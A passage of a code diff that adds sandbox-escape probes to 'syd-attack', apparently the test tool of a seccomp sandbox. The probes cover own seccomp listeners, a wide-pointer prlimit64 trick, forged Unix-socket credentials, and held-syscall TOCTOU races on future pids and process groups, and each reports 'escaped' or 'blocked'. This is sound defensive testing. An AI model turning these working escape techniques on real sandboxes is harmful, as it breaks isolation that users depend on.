@@ -43,12 +43,48 @@
  *   syd-attack magic-race N [NOISE]       two threads change the magic lock at
  *                                         once; NOISE: a path whose denied
  *                                         creation keeps several workers busy
+ * The red-team's findings (section 12):
+ *   syd-attack own-listener TARGET        A: once the parent is gone (a line on
+ *                                         stdin says so), a seccomp listener of
+ *                                         our own answers our creat(TARGET)
+ *   syd-attack listener-parent CMD...     stand-in supervisor: CMD's creat(2)
+ *                                         goes to a listener it answers EPERM
+ *   syd-attack prlimit-wide               B: prlimit64 on the parent's thread
+ *                                         (tid on stdin), new limit at
+ *                                         0x100000000; waits for EOF on stdin
+ *   syd-attack peercred SOCKET            D: as uid 65534, what the server at
+ *                                         SOCKET sees of us, forged creds too
+ *   syd-attack peercred-dgram SOCKET      D: the same with datagrams sent to SOCKET
+ *   syd-attack future-pid HELD FIFO [DENIED]
+ *                                         F: prlimit64 on the next pid, which a
+ *                                         supervisor thread takes meanwhile
+ *   syd-attack group-race setpriority|ioprio [HELD]
+ *                                         G: on our own group 0, joining the
+ *                                         parent's group after the check
+ *                                         (F, G: until HELD rounds held the
+ *                                         answered call, or 4 s)
+ *   syd-attack pidns-group nice|kill      H: group 0 from a new pid namespace
+ *   syd-attack userns-signal V1 V2 [--no-drop]
+ *                                         I: SIGTERM to V1 (pidfd) and V2's group
+ *                                         as uid 65534, then from a user
+ *                                         namespace of its own
+ *   syd-attack vhangup | tiocvhangup      J: hang up the terminal
+ *   syd-attack tty-stop ttin|ttou         J: stop the parent's process group
+ *                                         through the terminal
+ *   syd-attack tty-session CMD...         launcher: CMD as a job of a session
+ *                                         on a fresh pty; reports its stops
+ *   syd-attack cgroup-move                K: (root) the parent into a new cgroup;
+ *                                         back after EOF on stdin
+ *   syd-attack autogroup [NICE]           M: the session's autogroup nice
  */
 #define _GNU_SOURCE
 #include <dirent.h>
 #include <errno.h>
 #include <fcntl.h>
+#include <grp.h>
+#include <limits.h>
 #include <linux/filter.h>
+#include <linux/futex.h>
 #include <linux/seccomp.h>
 #include <poll.h>
 #include <pthread.h>
@@ -62,6 +98,7 @@
 #include <stdlib.h>
 #include <string.h>
 #include <sys/ioctl.h>
+#include <sys/mman.h>
 #include <sys/mount.h>
 #include <sys/prctl.h>
 #include <sys/resource.h>
@@ -71,6 +108,7 @@
 #include <sys/uio.h>
 #include <sys/un.h>
 #include <sys/wait.h>
+#include <termios.h>
 #include <time.h>
 #include <unistd.h>
 
@@ -1333,6 +1371,1071 @@ static int magic_race(int n, const char* noise) {
   return blocked("magic-race (every process locked)", ENOENT);
 }
 
+/* ---- 12. the red-team's findings (A, B, D, F-M) ------------------------------ */
+
+/* Reads up to one line of stdin (without the newline); "" at EOF. */
+static void read_line(char* buf, size_t len) {
+  size_t n = 0;
+  char c;
+  while (n + 1 < len && read(0, &c, 1) == 1 && c != '\n') buf[n++] = c;
+  buf[n] = 0;
+}
+
+/* Waits (at most 10 s) for EOF on stdin: the test has looked. */
+static void wait_stdin_eof(void) {
+  char c;
+  long end = now_ms() + 10000;
+  while (now_ms() < end) {
+    struct pollfd pf = {0, POLLIN, 0};
+    if (poll(&pf, 1, 100) > 0 && read(0, &c, 1) <= 0) break;
+  }
+}
+
+/* Becomes `uid` (and its gid, no supplementary groups) for good. 0 or errno. */
+static int drop_to(uid_t uid) {
+  if (setgroups(0, NULL) != 0 || setresgid(uid, uid, uid) != 0 || setresuid(uid, uid, uid) != 0) return errno;
+  return 0;
+}
+
+/* A filter sending creat(2) to a listener of the caller's own: its fd, or
+ * -1 with errno. (creat only: the dynamic loader's opens stay untouched.) */
+static int creat_listener(void) {
+  struct sock_filter f[] = {
+      BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, arch)),
+      BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, AUDIT_ARCH_X86_64, 1, 0),
+      BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
+      BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
+      BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, __NR_creat, 0, 1),
+      BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
+      BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
+  };
+  struct sock_fprog prog = {sizeof f / sizeof f[0], f};
+  if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) != 0) return -1;
+  return (int)syscall(__NR_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER, &prog);
+}
+
+/* Answers every notification on `listener` with CONTINUE (or `error`) until
+ * `child` exits; its exit status. */
+static int answer_until_exit(int listener, pid_t child, int error) {
+  int st = 0;
+  for (;;) {
+    if (waitpid(child, &st, WNOHANG) == child) break;
+    struct pollfd p = {listener, POLLIN, 0};
+    if (poll(&p, 1, 50) <= 0 || !(p.revents & POLLIN)) continue;
+    struct seccomp_notif req;
+    memset(&req, 0, sizeof req);
+    if (ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV, &req) != 0) continue;
+    struct seccomp_notif_resp resp;
+    memset(&resp, 0, sizeof resp);
+    resp.id = req.id;
+    if (error) resp.error = -error;
+    else resp.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE;
+    (void)ioctl(listener, SECCOMP_IOCTL_NOTIF_SEND, &resp);
+  }
+  return WIFEXITED(st) ? WEXITSTATUS(st) : 128 + WTERMSIG(st);
+}
+
+/* A: a stand-in supervisor: a child sends creat(2) to a listener that this
+ * process holds alone and answers EPERM to everything; the child runs CMD. */
+static int listener_parent(char** cmd) {
+  int pp[2], go[2];
+  if (pipe(pp) != 0 || pipe(go) != 0) return 100;
+  pid_t child = fork();
+  if (child == 0) {
+    int l = creat_listener();
+    if (l < 0) _exit(101);
+    if (write(pp[1], &l, sizeof l) != sizeof l) _exit(102);
+    char c;
+    if (read(go[0], &c, 1) != 1) _exit(103);
+    close(l);
+    close(pp[0]);
+    close(pp[1]);
+    close(go[0]);
+    close(go[1]);
+    execvp(cmd[0], cmd);
+    _exit(127);
+  }
+  int remote;
+  if (read(pp[0], &remote, sizeof remote) != sizeof remote) return 104;
+  int pidfd = (int)pidfd_open_(child);
+  int listener = pidfd >= 0 ? (int)pidfd_getfd_(pidfd, remote) : -1;
+  if (listener < 0) {
+    kill(child, SIGKILL);
+    waitpid(child, NULL, 0);
+    return 105;
+  }
+  if (write(go[1], "g", 1) != 1) return 106;
+  return answer_until_exit(listener, child, EPERM);
+}
+
+/* A: after the supervisor is gone. A child (the eldest dies with the
+ * supervisor) waits for a line on stdin, sent once the test has killed the
+ * parent; then its creat(TARGET) must fail (ENOSYS: nobody answers) and it
+ * must not get a listener of its own, which would answer its children's
+ * calls with CONTINUE. */
+static int own_listener(const char* target) {
+  pid_t s = fork();
+  if (s == 0) {
+    int l = creat_listener();
+    if (l >= 0) {
+      printf("SETUP a listener of our own while the parent lives\n");
+      _exit(2);
+    }
+    printf("while the parent lives: seccomp(NEW_LISTENER): %s\n", en(errno));
+    printf("READY\n");
+    fflush(stdout);
+    char line[16];
+    read_line(line, sizeof line);
+    long fd = syscall(__NR_creat, target, 0644);
+    printf("after the parent: creat: %s\n", fd >= 0 ? "OK" : en(errno));
+    if (fd >= 0) _exit(escaped("own-listener: creat(%s) with the parent gone", target));
+    l = creat_listener();
+    if (l < 0) {
+      int e = errno;
+      fd = syscall(__NR_creat, target, 0644);
+      printf("after the refusal: creat: %s\n", fd >= 0 ? "OK" : en(errno));
+      if (fd >= 0) _exit(escaped("own-listener: creat(%s) with the parent gone", target));
+      _exit(blocked("seccomp(NEW_LISTENER)", e));
+    }
+    info("a listener of our own at fd %d", l);
+    fflush(stdout);
+    pid_t d = fork();
+    if (d == 0) {
+      long f = syscall(__NR_creat, target, 0644);
+      _exit(f >= 0 ? 0 : errno);
+    }
+    int r = answer_until_exit(l, d, 0);
+    if (r == 0) _exit(escaped("own-listener: creat(%s) answered CONTINUE by our own listener", target));
+    _exit(blocked("creat under our own listener", r));
+  }
+  int st;
+  while (waitpid(s, &st, 0) < 0 && errno == EINTR) {
+  }
+  return WIFEXITED(st) ? WEXITSTATUS(st) : 128 + WTERMSIG(st);
+}
+
+/* B: prlimit64 on a thread of the parent (TID read from stdin) with the new
+ * limit at 0x100000000, whose low 32 bits are those of NULL ("only reads"):
+ * RLIMIT_MSGQUEUE 4096 (harmless, and visible in /proc/PID/limits). Then the
+ * same with an ordinary pointer. Waits for EOF on stdin before exiting. */
+static int prlimit_wide(void) {
+  printf("ppid=%d\nWAITING\n", getppid());
+  fflush(stdout);
+  char line[32];
+  read_line(line, sizeof line);
+  pid_t tid = atoi(line);
+  if (tid <= 0) return blocked("no thread id on stdin", EINVAL);
+  struct rlimit* lim = mmap((void*)0x100000000ul, 4096, PROT_READ | PROT_WRITE,
+                            MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
+  if (lim != (void*)0x100000000ul) return blocked("mmap(0x100000000)", errno);
+  lim->rlim_cur = lim->rlim_max = 4096;
+  long wide = syscall(__NR_prlimit64, tid, RLIMIT_MSGQUEUE, lim, NULL);
+  int wide_err = errno;
+  printf("prlimit64(%d, new at 0x100000000): %s\n", tid, wide == 0 ? "OK" : en(wide_err));
+  struct rlimit plain = {4096, 4096};
+  long ord = syscall(__NR_prlimit64, tid, RLIMIT_MSGQUEUE, &plain, NULL);
+  int ord_err = errno;
+  printf("prlimit64(%d, ordinary pointer): %s\n", tid, ord == 0 ? "OK" : en(ord_err));
+  printf("DONE\n");
+  fflush(stdout);
+  wait_stdin_eof();
+  if (wide == 0) return escaped("prlimit-wide: RLIMIT_MSGQUEUE of thread %d set through 0x100000000", tid);
+  if (ord == 0) return escaped("prlimit-wide: RLIMIT_MSGQUEUE of thread %d set", tid);
+  return blocked("prlimit64(new at 0x100000000)", wide_err);
+}
+
+/* D: connects to SOCKET (dropping to uid 65534 first when root) and asks
+ * the server (the test) what it saw: SO_PEERCRED of the connection, the
+ * SCM_CREDENTIALS of a plain sendmsg, then of a sendmsg claiming pid 1,
+ * uid 0, gid 0. Each reply is one line "peer PID UID GID creds PID UID GID"
+ * ("creds none" without any). */
+static int peer_exchange(const char* path, const struct ucred* claim, char* reply, size_t len, int* send_err) {
+  int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
+  struct sockaddr_un un;
+  memset(&un, 0, sizeof un);
+  un.sun_family = AF_UNIX;
+  snprintf(un.sun_path, sizeof un.sun_path, "%s", path);
+  if (s < 0 || connect(s, (struct sockaddr*)&un, sizeof un) != 0) return errno;
+  char cbuf[CMSG_SPACE(sizeof(struct ucred))];
+  memset(cbuf, 0, sizeof cbuf);
+  struct iovec v = {(void*)"hello", 5};
+  struct msghdr mh;
+  memset(&mh, 0, sizeof mh);
+  mh.msg_iov = &v;
+  mh.msg_iovlen = 1;
+  if (claim) {
+    mh.msg_control = cbuf;
+    mh.msg_controllen = sizeof cbuf;
+    struct cmsghdr* cm = CMSG_FIRSTHDR(&mh);
+    cm->cmsg_level = SOL_SOCKET;
+    cm->cmsg_type = SCM_CREDENTIALS;
+    cm->cmsg_len = CMSG_LEN(sizeof *claim);
+    memcpy(CMSG_DATA(cm), claim, sizeof *claim);
+  }
+  *send_err = sendmsg(s, &mh, MSG_NOSIGNAL) < 0 ? errno : 0;
+  shutdown(s, SHUT_WR);
+  ssize_t n = 0, got;
+  while (n + 1 < (ssize_t)len && (got = read(s, reply + n, len - 1 - (size_t)n)) > 0) n += got;
+  reply[n > 0 ? n : 0] = 0;
+  char* nl = strchr(reply, '\n');
+  if (nl) *nl = 0;
+  close(s);
+  return 0;
+}
+
+static int peer_cred(const char* path) {
+  if (privileged()) {
+    int e = drop_to(65534);
+    if (e) return blocked("drop to uid 65534", e);
+  }
+  const uid_t me = getuid();
+  const gid_t my_gid = getgid();
+  info("uid %u gid %u pid %d", me, my_gid, getpid());
+  char reply[256];
+  int send_err = 0;
+  int e = peer_exchange(path, NULL, reply, sizeof reply, &send_err);
+  if (e) return blocked("connect", e);
+  printf("plain: sendmsg: %s; server: %s\n", send_err ? en(send_err) : "OK", reply);
+  int ppid = 0, cpid = 0;
+  unsigned puid = 0, pgid = 0, cuid = 0, cgid = 0;
+  int have_peer = sscanf(reply, "peer %d %u %u", &ppid, &puid, &pgid) == 3;
+  const char* c = strstr(reply, "creds ");
+  int have_creds = c && sscanf(c, "creds %d %u %u", &cpid, &cuid, &cgid) == 3;
+  char bad[256] = "";
+  if (have_peer && (puid != me || pgid != my_gid))
+    snprintf(bad + strlen(bad), sizeof bad - strlen(bad), " SO_PEERCRED uid %u gid %u;", puid, pgid);
+  if (have_creds && (cuid != me || cgid != my_gid))
+    snprintf(bad + strlen(bad), sizeof bad - strlen(bad), " a plain message's credentials uid %u gid %u;", cuid, cgid);
+  struct ucred forged = {1, 0, 0};
+  e = peer_exchange(path, &forged, reply, sizeof reply, &send_err);
+  if (e) return blocked("connect (second)", e);
+  printf("forged: sendmsg: %s; server: %s\n", send_err ? en(send_err) : "OK", reply);
+  c = strstr(reply, "creds ");
+  if (!send_err && c && sscanf(c, "creds %d %u %u", &cpid, &cuid, &cgid) == 3 && (cpid == 1 || cuid == 0 || cgid == 0))
+    snprintf(bad + strlen(bad), sizeof bad - strlen(bad), " forged credentials pid %d uid %u gid %u accepted;", cpid,
+             cuid, cgid);
+  if (bad[0]) return escaped("peercred:%s", bad);
+  if (!have_peer) return blocked("no reply from the server", EPROTO);
+  return blocked("sendmsg(forged SCM_CREDENTIALS)", send_err ? send_err : EPROTO);
+}
+
+/* D, datagrams: as uid 65534 (dropping to it when root), sendmsg to the
+ * datagram socket SOCKET with its address (the supervisor sends it), once
+ * plain, once claiming pid 1, uid 0, gid 0. The server (the test) answers
+ * each message it gets with "creds PID UID GID" to our address (SO_PASSCRED
+ * binds us to one). */
+static int dgram_exchange(int s, const char* path, const struct ucred* claim, char* reply, size_t len) {
+  struct sockaddr_un un;
+  memset(&un, 0, sizeof un);
+  un.sun_family = AF_UNIX;
+  snprintf(un.sun_path, sizeof un.sun_path, "%s", path);
+  char cbuf[CMSG_SPACE(sizeof(struct ucred))];
+  memset(cbuf, 0, sizeof cbuf);
+  struct iovec v = {(void*)"hello", 5};
+  struct msghdr mh;
+  memset(&mh, 0, sizeof mh);
+  mh.msg_name = &un;
+  mh.msg_namelen = sizeof un;
+  mh.msg_iov = &v;
+  mh.msg_iovlen = 1;
+  if (claim) {
+    mh.msg_control = cbuf;
+    mh.msg_controllen = sizeof cbuf;
+    struct cmsghdr* cm = CMSG_FIRSTHDR(&mh);
+    cm->cmsg_level = SOL_SOCKET;
+    cm->cmsg_type = SCM_CREDENTIALS;
+    cm->cmsg_len = CMSG_LEN(sizeof *claim);
+    memcpy(CMSG_DATA(cm), claim, sizeof *claim);
+  }
+  reply[0] = 0;
+  if (sendmsg(s, &mh, MSG_NOSIGNAL) < 0) return errno;
+  struct pollfd pf = {s, POLLIN, 0};
+  if (poll(&pf, 1, 3000) <= 0) return ETIMEDOUT;
+  ssize_t n = recv(s, reply, len - 1, 0);
+  reply[n > 0 ? n : 0] = 0;
+  reply[strcspn(reply, "\n")] = 0;
+  return 0;
+}
+
+static int peer_cred_dgram(const char* path) {
+  if (privileged()) {
+    int e = drop_to(65534);
+    if (e) return blocked("drop to uid 65534", e);
+  }
+  const uid_t me = getuid();
+  const gid_t my_gid = getgid();
+  info("uid %u gid %u pid %d", me, my_gid, getpid());
+  int s = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0), one = 1;
+  if (s < 0 || setsockopt(s, SOL_SOCKET, SO_PASSCRED, &one, sizeof one) != 0) return blocked("socket", errno);
+  char reply[256], bad[256] = "";
+  int e = dgram_exchange(s, path, NULL, reply, sizeof reply);
+  printf("plain: sendmsg: %s; server: %s\n", e ? en(e) : "OK", reply);
+  int cpid = 0;
+  unsigned cuid = 0, cgid = 0;
+  if (e) return blocked("sendmsg(plain)", e);
+  if (sscanf(reply, "creds %d %u %u", &cpid, &cuid, &cgid) == 3 && (cuid != me || cgid != my_gid))
+    snprintf(bad, sizeof bad, " a plain datagram's credentials uid %u gid %u;", cuid, cgid);
+  struct ucred forged = {1, 0, 0};
+  int fe = dgram_exchange(s, path, &forged, reply, sizeof reply);
+  printf("forged: sendmsg: %s; server: %s\n", fe ? en(fe) : "OK", reply);
+  if (!fe && sscanf(reply, "creds %d %u %u", &cpid, &cuid, &cgid) == 3 && (cpid == 1 || cuid == 0 || cgid == 0))
+    snprintf(bad + strlen(bad), sizeof bad - strlen(bad), " forged credentials pid %d uid %u gid %u accepted;", cpid,
+             cuid, cgid);
+  if (bad[0]) return escaped("peercred-dgram:%s", bad);
+  return blocked("sendmsg(forged SCM_CREDENTIALS, datagram)", fe ? fe : EPROTO);
+}
+
+/* F, G: holding a caller between the supervisor's answer and the kernel's
+ * action. A call the supervisor answers with CONTINUE is carried out by the
+ * kernel only when the caller runs again. The caller here (nice 19) is
+ * pinned to a CPU with a spinner (nice 0, 68 times its weight), which starts
+ * once the caller waits for its answer: answered, the caller is runnable,
+ * but the scheduler keeps running the spinner until it stops. Meanwhile
+ * `act` runs on another CPU, and whatever the kernel then does, it does in
+ * the world `act` left. This is the red-team's trick (SCHED_IDLE and busy
+ * threads; nice 19 still gets into its call on a loaded machine) made a
+ * handshake: a round counts as held only when the caller was seen waiting
+ * (S) with the spinner running, then answered (R) and not yet returned. */
+struct hold {
+  int cpu;                      /* the caller's and the spinner's */
+  pid_t tid;                    /* the caller's */
+  atomic_int go, in_call, done, spin, spinning, quit;
+  long (*call)(void*);
+  void* arg;
+  long ret;
+  int err;
+};
+
+static void futex_wait_(atomic_int* a, int val) { syscall(SYS_futex, a, FUTEX_WAIT_PRIVATE, val, NULL, NULL, 0); }
+static void futex_wake_(atomic_int* a) { syscall(SYS_futex, a, FUTEX_WAKE_PRIVATE, INT_MAX, NULL, NULL, 0); }
+
+static void pin_to(int cpu) {
+  cpu_set_t s;
+  CPU_ZERO(&s);
+  CPU_SET(cpu, &s);
+  (void)sched_setaffinity(0, sizeof s, &s);
+}
+
+static void* hold_caller(void* a) {
+  struct hold* h = a;
+  pin_to(h->cpu);
+  h->tid = gettid();
+  atomic_store(&h->done, 1);
+  futex_wake_(&h->done);
+  for (;;) {
+    while (!atomic_load(&h->go)) futex_wait_(&h->go, 0);
+    atomic_store(&h->go, 0);
+    if (atomic_load(&h->quit)) return NULL;
+    (void)setpriority(PRIO_PROCESS, 0, 19); /* again: a group call may have changed it */
+    atomic_store(&h->in_call, 1);
+    long r = h->call(h->arg);
+    h->err = r < 0 ? errno : 0;
+    h->ret = r;
+    atomic_store(&h->in_call, 0);
+    atomic_store(&h->done, 1);
+  }
+}
+
+static void* hold_spinner(void* a) {
+  struct hold* h = a;
+  pin_to(h->cpu);
+  for (;;) {
+    while (!atomic_load(&h->spin)) futex_wait_(&h->spin, 0);
+    if (atomic_load(&h->quit)) return NULL;
+    atomic_store(&h->spinning, 1);
+    while (atomic_load(&h->spin)) {
+    }
+    atomic_store(&h->spinning, 0);
+  }
+}
+
+/* The state letter of /proc/self/task/TID/stat, read through `fd`. */
+static char task_state(int fd) {
+  char b[512];
+  ssize_t n = pread(fd, b, sizeof b - 1, 0);
+  if (n <= 0) return '?';
+  b[n] = 0;
+  char* rp = strrchr(b, ')');
+  return rp && rp[1] == ' ' ? rp[2] : '?';
+}
+
+static pthread_t hold_threads[2];
+static int hold_stat_fd = -1;
+
+/* The share of `cpu` a thread of ours gets over 20 ms (its CPU time over
+ * the wall time, per mille): run on that CPU. */
+static void* cpu_share_probe(void* arg) {
+  intptr_t* cpu = arg;
+  pin_to((int)*cpu);
+  struct timespec c0, c1;
+  clock_gettime(CLOCK_THREAD_CPUTIME_ID, &c0);
+  long end = now_ms() + 20;
+  while (now_ms() < end) {
+  }
+  clock_gettime(CLOCK_THREAD_CPUTIME_ID, &c1);
+  *cpu = ((c1.tv_sec - c0.tv_sec) * 1000000000L + (c1.tv_nsec - c0.tv_nsec)) / 20000L;
+  return NULL;
+}
+
+/* Starts the caller and the spinner on the CPU where we get the most time
+ * (of the first 16 we may use: one that something else keeps busy, a
+ * real-time task say, would starve the caller before its call); this thread
+ * moves to the others (if any). 0 or errno. */
+static int hold_start(struct hold* h) {
+  cpu_set_t mine;
+  if (sched_getaffinity(0, sizeof mine, &mine) != 0) return errno;
+  int pick = -1, count = CPU_COUNT(&mine), tried = 0;
+  intptr_t best = -1;
+  for (int i = 0; i < CPU_SETSIZE && tried < 16; ++i) {
+    if (!CPU_ISSET(i, &mine)) continue;
+    ++tried;
+    intptr_t share = i;
+    pthread_t t;
+    if (count > 1 && pthread_create(&t, NULL, cpu_share_probe, &share) == 0) pthread_join(t, NULL);
+    if (share >= best) best = share, pick = i;
+  }
+  h->cpu = pick;
+  info("holding on cpu %d of %d (%ld per mille of it for us)", pick, count, (long)best);
+  if (count > 1) {
+    CPU_CLR(pick, &mine);
+    (void)sched_setaffinity(0, sizeof mine, &mine);
+  }
+  atomic_store(&h->done, 0);
+  pthread_create(&hold_threads[0], NULL, hold_caller, h);
+  pthread_create(&hold_threads[1], NULL, hold_spinner, h);
+  while (!atomic_load(&h->done)) futex_wait_(&h->done, 0);
+  char path[64];
+  snprintf(path, sizeof path, "/proc/self/task/%d/stat", h->tid);
+  hold_stat_fd = open(path, O_RDONLY | O_CLOEXEC);
+  return hold_stat_fd < 0 ? errno : 0;
+}
+
+static void hold_stop(struct hold* h) {
+  atomic_store(&h->quit, 1);
+  atomic_store(&h->go, 1);
+  futex_wake_(&h->go);
+  atomic_store(&h->spin, 1);
+  futex_wake_(&h->spin);
+  pthread_join(hold_threads[0], NULL);
+  pthread_join(hold_threads[1], NULL);
+  close(hold_stat_fd);
+}
+
+/* Rounds go on until `want` of them were held or 4 s have passed: how many
+ * are held depends on how fast the supervisor answers (a few to most). */
+#define HOLD_BUDGET_MS 4000
+
+/* One call of h->call; `act` runs while the answered caller is held.
+ * 1: held (act ran), 0: not held (act did not run), -1: the caller never
+ * returned (10 s). */
+static int hold_round(struct hold* h, void (*act)(void*), void* act_arg) {
+  atomic_store(&h->done, 0);
+  atomic_store(&h->go, 1);
+  futex_wake_(&h->go);
+  long end = now_ms() + 1000;
+  int waiting = 0, held = 0;
+  /* 1. the caller waits for its answer */
+  while (!atomic_load(&h->done) && now_ms() < end) {
+    if (atomic_load(&h->in_call) && task_state(hold_stat_fd) == 'S') {
+      waiting = 1;
+      break;
+    }
+  }
+  if (waiting) {
+    atomic_store(&h->spin, 1);
+    futex_wake_(&h->spin);
+    while (!atomic_load(&h->spinning) && now_ms() < end) {
+    }
+    /* 2. still waiting with the spinner on its CPU: once answered, it is held */
+    if (atomic_load(&h->spinning) && !atomic_load(&h->done) && task_state(hold_stat_fd) == 'S') {
+      while (!atomic_load(&h->done) && now_ms() < end) {
+        if (task_state(hold_stat_fd) == 'R') {
+          held = 1;
+          break;
+        }
+      }
+    }
+  }
+  if (held) act(act_arg);
+  atomic_store(&h->spin, 0);
+  end = now_ms() + 10000;
+  while (!atomic_load(&h->done))
+    if (now_ms() > end) return -1;
+  return held;
+}
+
+/* F: a call on a pid that does not exist yet. Starts after a line on
+ * stdin (then, with DENIED, a burst of denied creations: a supervisor that
+ * starts threads on demand does it now); prints DONE and waits for EOF on
+ * stdin before exiting (the test looks at the parent meanwhile). Each
+ * round predicts the next
+ * pid (ns_last_pid + 1) and calls prlimit64(that pid, RLIMIT_MSGQUEUE, 4096);
+ * while the answered call is held, a FIFO open makes the supervisor start a
+ * thread, which takes that pid. Were the call let through when checked,
+ * the kernel would then set the supervisor's limit. The call must fail
+ * (ESRCH: nobody had that pid when it was checked) every time. */
+struct fpid {
+  pid_t target;
+  const char* fifo;
+  int last_pid_fd;
+  atomic_int open_go, open_done;
+  pid_t taken;  /* ns_last_pid after the act */
+};
+
+static pid_t last_pid(int fd) {
+  char b[32];
+  ssize_t n = pread(fd, b, sizeof b - 1, 0);
+  if (n <= 0) return -1;
+  b[n] = 0;
+  return atoi(b);
+}
+
+static long fpid_call(void* a) {
+  struct fpid* f = a;
+  struct rlimit lim = {4096, 4096};
+  return syscall(__NR_prlimit64, f->target, RLIMIT_MSGQUEUE, &lim, NULL);
+}
+
+static void* fifo_opener(void* a) {
+  struct fpid* f = a;
+  for (;;) {
+    while (!atomic_load(&f->open_go)) futex_wait_(&f->open_go, 0);
+    atomic_store(&f->open_go, 0);
+    if (!f->fifo) return NULL;
+    int fd = open(f->fifo, O_WRONLY | O_CLOEXEC); /* blocks on a supervisor thread until a reader comes */
+    if (fd >= 0) close(fd);
+    atomic_store(&f->open_done, 1);
+  }
+}
+
+static void fpid_act(void* a) {
+  struct fpid* f = a;
+  atomic_store(&f->open_go, 1);
+  futex_wake_(&f->open_go);
+  long end = now_ms() + 100;
+  while (now_ms() < end && (f->taken = last_pid(f->last_pid_fd)) < f->target) {
+  }
+}
+
+/* Four threads creat(path) 25 times each at once: denied calls, each
+ * reported, keep several supervisor workers busy together. */
+static void* denied_burst(void* arg) {
+  for (int i = 0; i < 25; ++i) {
+    long fd = syscall(__NR_creat, (const char*)arg, 0644);
+    if (fd >= 0) close((int)fd);
+  }
+  return NULL;
+}
+
+static int future_pid(int want, const char* fifo, const char* denied) {
+  printf("ppid=%d\nWAITING\n", getppid());
+  fflush(stdout);
+  char line[16];
+  read_line(line, sizeof line);
+  if (denied) {
+    pthread_t t[4];
+    for (int i = 0; i < 4; ++i) pthread_create(&t[i], NULL, denied_burst, (void*)denied);
+    for (int i = 0; i < 4; ++i) pthread_join(t[i], NULL);
+  }
+  struct fpid f;
+  memset(&f, 0, sizeof f);
+  f.fifo = fifo;
+  f.last_pid_fd = open("/proc/sys/kernel/ns_last_pid", O_RDONLY | O_CLOEXEC);
+  if (f.last_pid_fd < 0) return blocked("open ns_last_pid", errno);
+  struct hold h;
+  memset(&h, 0, sizeof h);
+  h.call = fpid_call;
+  h.arg = &f;
+  int e = hold_start(&h);
+  if (e) return blocked("hold setup", e);
+  pthread_t opener; /* started here: off the caller's CPU, like this thread */
+  pthread_create(&opener, NULL, fifo_opener, &f);
+  int rounds = 0, held = 0, taken = 0, passed = 0, first_err = 0;
+  pid_t passed_pid = 0;
+  long t0 = now_ms();
+  for (; held < want && now_ms() - t0 < HOLD_BUDGET_MS; ++rounds) {
+    f.target = last_pid(f.last_pid_fd) + 1;
+    f.taken = 0;
+    atomic_store(&f.open_done, 0);
+    int r = hold_round(&h, fpid_act, &f);
+    if (r < 0) return blocked("the held call never returned", ETIMEDOUT);
+    if (r == 1) {
+      ++held;
+      int rd = open(fifo, O_RDONLY | O_NONBLOCK | O_CLOEXEC); /* lets the writer's open finish */
+      long end = now_ms() + 2000;
+      while (!atomic_load(&f.open_done) && now_ms() < end) sleep_ms(1);
+      if (rd >= 0) close(rd);
+      if (!atomic_load(&f.open_done)) return blocked("the FIFO open never finished", ETIMEDOUT);
+      if (f.taken >= f.target) ++taken;
+    }
+    if (h.ret == 0) {
+      ++passed;
+      passed_pid = f.target;
+    } else if (!first_err) {
+      first_err = h.err;
+    }
+  }
+  info("future-pid: %d rounds in %ld ms, %d held, %d with the pid taken meanwhile, %d let through", rounds,
+       now_ms() - t0, held, taken, passed);
+  printf("rounds %d held %d taken %d\n", rounds, held, taken);
+  f.fifo = NULL;
+  atomic_store(&f.open_go, 1);
+  futex_wake_(&f.open_go);
+  pthread_join(opener, NULL);
+  hold_stop(&h);
+  printf("DONE\n");
+  fflush(stdout);
+  wait_stdin_eof();
+  if (passed) return escaped("future-pid: prlimit64 on pid %d, which did not exist when checked, succeeded (%d times)",
+                             passed_pid, passed);
+  return blocked("prlimit64(a pid that does not exist yet)", first_err);
+}
+
+/* G: setpriority (the parent's nice + 1) / ioprio_set (best effort, 7) on
+ * the caller's own process group (0), from a group of its own: only the
+ * sandbox. While the answered call is held,
+ * the process joins the parent's group. Were the call let through when
+ * checked, the kernel would then act on the parent's group, the parent
+ * included. The parent's priority must stay as it was. */
+#define SA_IOPRIO_WHO_PGRP 2
+#define SA_IOPRIO_CLASS_BE 2
+struct grace {
+  int io;
+  pid_t parent_group;
+  long value; /* what the call sets */
+};
+
+static long grace_call(void* a) {
+  struct grace* g = a;
+  if (g->io) return syscall(__NR_ioprio_set, SA_IOPRIO_WHO_PGRP, 0, g->value);
+  return syscall(__NR_setpriority, PRIO_PGRP, 0, g->value);
+}
+
+static void grace_act(void* a) {
+  struct grace* g = a;
+  (void)setpgid(0, g->parent_group);
+}
+
+static long parent_prio(int io, pid_t p) {
+  errno = 0;
+  return io ? syscall(__NR_ioprio_get, SA_IOPRIO_WHO_PROCESS, p) : getpriority(PRIO_PROCESS, p);
+}
+
+static int group_race(const char* what, int want) {
+  struct grace g = {strcmp(what, "ioprio") == 0, getpgrp(), 0};
+  const pid_t p = getppid();
+  const long before = parent_prio(g.io, p);
+  /* One step nicer than the parent: enough to see, and no burden on our
+   * own threads, which the calls renice as well. */
+  const long changed = g.value = g.io ? SA_IOPRIO_PRIO_VALUE(SA_IOPRIO_CLASS_BE, 7) : before + 1;
+  printf("parent %d group %d %s %ld\n", p, g.parent_group, g.io ? "ioprio" : "nice", before);
+  if (before == changed || (!g.io && before >= 19)) {
+    printf("SETUP the parent's value is already %ld\n", before);
+    return 2;
+  }
+  /* The plain attempt, from the parent's group: refused. */
+  long r = grace_call(&g);
+  printf("in the parent's group: %s\n", r == 0 ? "OK" : en(errno));
+  if (parent_prio(g.io, p) == changed) return escaped("group-race: %s of the parent's group", what);
+  if (setpgid(0, 0) != 0) return blocked("setpgid(0, 0)", errno);
